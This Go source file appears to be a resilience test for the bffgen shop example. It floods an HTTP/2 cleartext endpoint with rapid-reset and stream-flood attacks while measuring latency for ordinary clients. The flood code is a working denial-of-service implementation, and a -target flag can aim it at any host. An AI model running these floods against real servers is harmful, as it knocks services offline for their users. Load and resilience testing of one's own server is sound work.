package main

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"os"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"connectrpc.com/connect"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/bffgen/bffgen/examples/shop/backends"
	"github.com/bffgen/bffgen/examples/shop/gen"
	"github.com/bffgen/bffgen/examples/shop/resolvers"
	bffruntime "github.com/bffgen/bffgen/runtime"
	"github.com/bffgen/bffgen/runtime/config"
)

// query is what the well-behaved clients ask: one backend call.
const query = `{ product(id: "p-1001") { id name priceCents } }`

// backendCalls counts the calls the example backends receive when the tool
// serves the BFF itself.
var backendCalls atomic.Int64

// cpu returns the CPU time (user + system) of the process so far.
func cpu() time.Duration {
	var ru syscall.Rusage
	if syscall.Getrusage(syscall.RUSAGE_SELF, &ru) != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

func main() {
	target := flag.String("target", "", "host:port of an endpoint to flood; default: start the shop BFF over h2c")
	path := flag.String("path", "/graphql", "path of the GraphQL endpoint")
	dur := flag.Duration("d", 3*time.Second, "length of each phase (before, during)")
	rate := flag.Int("rate", 10000, "rapid-reset streams per second (HEADERS + RST_STREAM)")
	streams := flag.Int("streams", 150, "streams held open on the stream-flood connection")
	clients := flag.Int("c", 4, "well-behaved clients, each on its own connection, one request at a time")
	flag.Parse()
	if *dur <= 0 || *dur > 30*time.Second || *rate < 0 || *rate > 100000 || *streams < 0 || *streams > 10000 || *clients < 1 || *clients > 64 {
		fmt.Fprintln(os.Stderr, "h2flood: want 0 < -d <= 30s, 0 <= -rate <= 100000, 0 <= -streams <= 10000, 1 <= -c <= 64")
		os.Exit(2)
	}
	addr := *target
	if addr == "" {
		a, stop, err := serveShopOverH2C()
		if err != nil {
			fmt.Fprintf(os.Stderr, "h2flood: %v\n", err)
			os.Exit(1)
		}
		defer stop()
		addr = a
		fmt.Printf("target: the shop BFF (production mode) behind Go's http.Server with h2c on, at %s\n", addr)
	} else {
		if answer, ok := speaksH2C(addr); !ok {
			fmt.Printf("target %s does not speak HTTP/2 over cleartext: it answered the preface with %q\nnothing to flood (IN-14 does not apply)\n", addr, answer)
			return
		}
		fmt.Printf("target: %s (speaks h2c)\n", addr)
	}
	if err := measure(addr, *path, *dur, *rate, *streams, *clients, *target == ""); err != nil {
		fmt.Fprintf(os.Stderr, "h2flood: %v\n", err)
		os.Exit(1)
	}
}

// serveShopOverH2C starts the example backends and the shop BFF's handler
// behind an http.Server with the runtime's production timeouts and h2c on.
func serveShopOverH2C() (string, func(), error) {
	count := connect.UnaryInterceptorFunc(func(next connect.UnaryFunc) connect.UnaryFunc {
		return func(ctx context.Context, req connect.AnyRequest) (connect.AnyResponse, error) {
			backendCalls.Add(1)
			return next(ctx, req)
		}
	})
	run, err := backends.Start(backends.Options{HandlerOptions: []connect.HandlerOption{connect.WithInterceptors(count)}})
	if err != nil {
		return "", nil, err
	}
	cfg, err := config.Parse(fmt.Appendf(nil, `
mode: production
upstreams:
  catalog: {endpoints: [%q], timeout: 800ms}
  reviews: {endpoints: [%q], protocol: grpc, timeout: 800ms}
  users: {endpoints: [%q], timeout: 800ms}
`, run.CatalogURL, run.ReviewsURL, run.UsersURL), "h2flood.yaml")
	if err != nil {
		run.Close()
		return "", nil, err
	}
	srv, err := bffruntime.New(gen.Service(&resolvers.Resolver{}), cfg, bffruntime.WithLogger(slog.New(slog.DiscardHandler)))
	if err != nil {
		run.Close()
		return "", nil, err
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		srv.Close()
		run.Close()
		return "", nil, err
	}
	var protocols http.Protocols
	protocols.SetHTTP1(true)
	protocols.SetUnencryptedHTTP2(true)
	sc := cfg.Server
	hs := &http.Server{
		Handler:           srv.Handler(),
		Protocols:         &protocols,
		ReadHeaderTimeout: sc.ReadHeaderTimeout,
		ReadTimeout:       sc.ReadTimeout,
		WriteTimeout:      sc.WriteTimeout,
		IdleTimeout:       sc.IdleTimeout,
		MaxHeaderBytes:    sc.MaxHeaderBytes,
		ErrorLog:          slog.NewLogLogger(slog.DiscardHandler, slog.LevelError),
	}
	go hs.Serve(ln)
	return ln.Addr().String(), func() {
		hs.Close()
		srv.Close()
		run.Close()
	}, nil
}

// speaksH2C sends the client preface and a SETTINGS frame and reports
// whether the first thing back is a SETTINGS frame; otherwise it returns
// the first bytes of the answer.
func speaksH2C(addr string) (string, bool) {
	conn, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return err.Error(), false
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(5 * time.Second))
	var buf bytes.Buffer
	buf.WriteString(http2.ClientPreface)
	_ = http2.NewFramer(&buf, nil).WriteSettings()
	if _, err := conn.Write(buf.Bytes()); err != nil {
		return err.Error(), false
	}
	head := make([]byte, 9)
	n, err := io.ReadFull(conn, head)
	if err != nil && n == 0 {
		return err.Error(), false
	}
	if n == 9 && http2.FrameType(head[3]) == http2.FrameSettings {
		return "", true
	}
	rest, _ := io.ReadAll(io.LimitReader(conn, 64))
	line, _, _ := strings.Cut(string(append(head[:n], rest...)), "\r\n")
	return line, false
}

// phase is what the well-behaved clients saw in one phase.
type phase struct {
	ok, failed int
	lat        []time.Duration
	// cpu is the CPU time of the whole process during the phase; calls the
	// backend calls (when the tool serves the BFF itself).
	cpu   time.Duration
	calls int64
}

func (p *phase) pct(q float64) time.Duration {
	if len(p.lat) == 0 {
		return 0
	}
	slices.Sort(p.lat)
	return p.lat[min(len(p.lat)-1, int(q*float64(len(p.lat))))]
}

// wellBehaved runs clients h2c clients, one request at a time each, for d.
func wellBehaved(addr, path string, clients int, d time.Duration) *phase {
	u := "http://" + addr + path + "?query=" + url.QueryEscape(query)
	var mu sync.Mutex
	p := &phase{}
	cpu0, calls0 := cpu(), backendCalls.Load()
	defer func() { p.cpu, p.calls = cpu()-cpu0, backendCalls.Load()-calls0 }()
	deadline := time.Now().Add(d)
	var wg sync.WaitGroup
	for range clients {
		var protocols http.Protocols
		protocols.SetUnencryptedHTTP2(true)
		c := &http.Client{Transport: &http.Transport{Protocols: &protocols}, Timeout: 10 * time.Second}
		wg.Go(func() {
			defer c.CloseIdleConnections()
			for time.Now().Before(deadline) {
				start := time.Now()
				resp, err := c.Get(u)
				good := err == nil && resp.ProtoMajor == 2 && resp.StatusCode == 200
				if err == nil {
					b, _ := io.ReadAll(resp.Body)
					resp.Body.Close()
					good = good && bytes.Contains(b, []byte(`"p-1001"`))
				}
				el := time.Since(start)
				mu.Lock()
				if good {
					p.ok++
					p.lat = append(p.lat, el)
				} else {
					p.failed++
				}
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	return p
}

// attack is one attacking connection and what the server did to it.
type attack struct {
	name                 string
	sent                 atomic.Int64 // streams opened
	refused, reset, resp atomic.Int64 // RST_STREAM from the server; response HEADERS
	goaway               atomic.Value // string
	closedAfter          atomic.Int64 // ns from the start to the end of the connection, 0 while open
}

// conn is an attacking HTTP/2 connection.
type conn struct {
	c     net.Conn
	mu    sync.Mutex
	bw    *bufio.Writer
	fr    *http2.Framer
	block []byte // HPACK block of the request headers
	next  uint32
}

func dialAttack(addr, path string, a *attack, post bool) (*conn, error) {
	nc, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return nil, err
	}
	bw := bufio.NewWriterSize(nc, 64<<10)
	c := &conn{c: nc, bw: bw, fr: http2.NewFramer(bw, nc), next: 1}
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	method, p := "GET", path+"?query="+url.QueryEscape(query)
	fields := []hpack.HeaderField{{Name: ":method", Value: method}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: addr}, {Name: ":path", Value: p}}
	if post {
		fields = []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: addr}, {Name: ":path", Value: path},
			{Name: "content-type", Value: "application/json"}, {Name: "content-length", Value: "1000"}}
	}
	for _, f := range fields {
		_ = enc.WriteField(f)
	}
	c.block = block.Bytes()
	bw.WriteString(http2.ClientPreface)
	if err := c.fr.WriteSettings(); err != nil {
		nc.Close()
		return nil, err
	}
	if err := bw.Flush(); err != nil {
		nc.Close()
		return nil, err
	}
	start := time.Now()
	go func() { // the reader: ack SETTINGS and PING, count what the server does
		defer func() { a.closedAfter.Store(int64(time.Since(start))) }()
		for {
			f, err := c.fr.ReadFrame()
			if err != nil {
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					c.mu.Lock()
					_ = c.fr.WriteSettingsAck()
					_ = c.bw.Flush()
					c.mu.Unlock()
				}
			case *http2.PingFrame:
				if !f.IsAck() {
					c.mu.Lock()
					_ = c.fr.WritePing(true, f.Data)
					_ = c.bw.Flush()
					c.mu.Unlock()
				}
			case *http2.RSTStreamFrame:
				if f.ErrCode == http2.ErrCodeRefusedStream {
					a.refused.Add(1)
				} else {
					a.reset.Add(1)
				}
			case *http2.HeadersFrame:
				a.resp.Add(1)
			case *http2.GoAwayFrame:
				a.goaway.Store(fmt.Sprintf("GOAWAY %s after stream %d", f.ErrCode, f.LastStreamID))
			}
		}
	}()
	return c, nil
}

// open sends the HEADERS of a new stream (ending it when end) and, when
// rst, an RST_STREAM(CANCEL) for it; it flushes when flush.
func (c *conn) open(end, rst, flush bool) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	id := c.next
	c.next += 2
	if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block, EndStream: end, EndHeaders: true}); err != nil {
		return err
	}
	if rst {
		if err := c.fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	if flush {
		return c.bw.Flush()
	}
	return nil
}

// measure runs the two phases and prints the table.
func measure(addr, path string, d time.Duration, rate, streams, clients int, self bool) error {
	var ms runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&ms)
	heapBefore := ms.HeapInuse
	// Warm-up: connections, the backends' and the BFF's first calls.
	wellBehaved(addr, path, clients, 300*time.Millisecond)
	before := wellBehaved(addr, path, clients, d)
	if before.ok == 0 {
		return fmt.Errorf("no well-behaved request succeeded before the flood (%d failed): is %s an h2c GraphQL endpoint?", before.failed, addr)
	}

	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	rr, sf := &attack{name: fmt.Sprintf("rapid reset, %d streams/s", rate)}, &attack{name: fmt.Sprintf("stream flood, %d streams held", streams)}
	var wg sync.WaitGroup
	var peakHeap atomic.Uint64
	if rate > 0 {
		c, err := dialAttack(addr, path, rr, false)
		if err != nil {
			return err
		}
		defer c.c.Close()
		wg.Go(func() {
			// Pace in 10 ms ticks; a connection the server closed ends the
			// attack on it (a real attacker would reconnect: the table
			// says when the server closed it).
			const tick = 10 * time.Millisecond
			per := max(1, rate/100)
			t := time.NewTicker(tick)
			defer t.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-t.C:
				}
				for i := range per {
					if c.open(true, true, i == per-1) != nil {
						return
					}
					rr.sent.Add(1)
				}
			}
		})
	}
	if streams > 0 {
		c, err := dialAttack(addr, path, sf, true)
		if err != nil {
			return err
		}
		defer c.c.Close()
		wg.Go(func() {
			for i := range streams {
				if c.open(false, false, i == streams-1) != nil {
					return
				}
				sf.sent.Add(1)
			}
			<-ctx.Done()
		})
	}
	if self {
		wg.Go(func() {
			t := time.NewTicker(100 * time.Millisecond)
			defer t.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-t.C:
					var m runtime.MemStats
					runtime.ReadMemStats(&m)
					if m.HeapInuse > peakHeap.Load() {
						peakHeap.Store(m.HeapInuse)
					}
				}
			}
		})
	}
	during := wellBehaved(addr, path, clients, d)
	cancel()
	wg.Wait()

	fmt.Printf("\nwell-behaved clients: %d, each one request at a time over its own h2c connection; %s per phase\n\n", clients, d)
	fmt.Printf("%-8s %9s %7s %10s %10s %9s %14s\n", "phase", "requests", "failed", "p50", "p99", "CPU-s", "backend calls")
	for _, r := range []struct {
		name string
		p    *phase
	}{{"before", before}, {"during", during}} {
		calls := "-"
		if self {
			calls = fmt.Sprint(r.p.calls)
		}
		fmt.Printf("%-8s %9d %7d %10s %10s %9.2f %14s\n", r.name, r.p.ok, r.p.failed, r.p.pct(0.50).Round(time.Microsecond), r.p.pct(0.99).Round(time.Microsecond), r.p.cpu.Seconds(), calls)
	}
	if b := before.pct(0.99); b > 0 && during.ok > 0 {
		fmt.Printf("\np99 during / before: %.2fx (IN-14 bar: < 2x)\n", float64(during.pct(0.99))/float64(b))
	}
	fmt.Println()
	for _, a := range []*attack{rr, sf} {
		if a.sent.Load() == 0 {
			continue
		}
		ga, _ := a.goaway.Load().(string)
		if ga == "" {
			ga = "no GOAWAY"
		}
		closed := "open to the end"
		if ns := a.closedAfter.Load(); ns > 0 {
			closed = "closed after " + time.Duration(ns).Round(time.Millisecond).String()
		}
		fmt.Printf("%s: %d streams sent; server: %s, %d refused, %d reset, %d responses; connection %s\n",
			a.name, a.sent.Load(), ga, a.refused.Load(), a.reset.Load(), a.resp.Load(), closed)
	}
	fmt.Println("CPU-s is the whole process's (tool, attackers, BFF, backends) on this machine's cores; the attackers' framing is part of it")
	if self {
		fmt.Printf("heap in use: %.1f MiB before, %.1f MiB peak during (process-wide: tool, BFF and backends)\n",
			float64(heapBefore)/(1<<20), float64(peakHeap.Load())/(1<<20))
	}
	if during.ok == 0 {
		return errors.New("no well-behaved request succeeded during the flood")
	}
	return nil
}
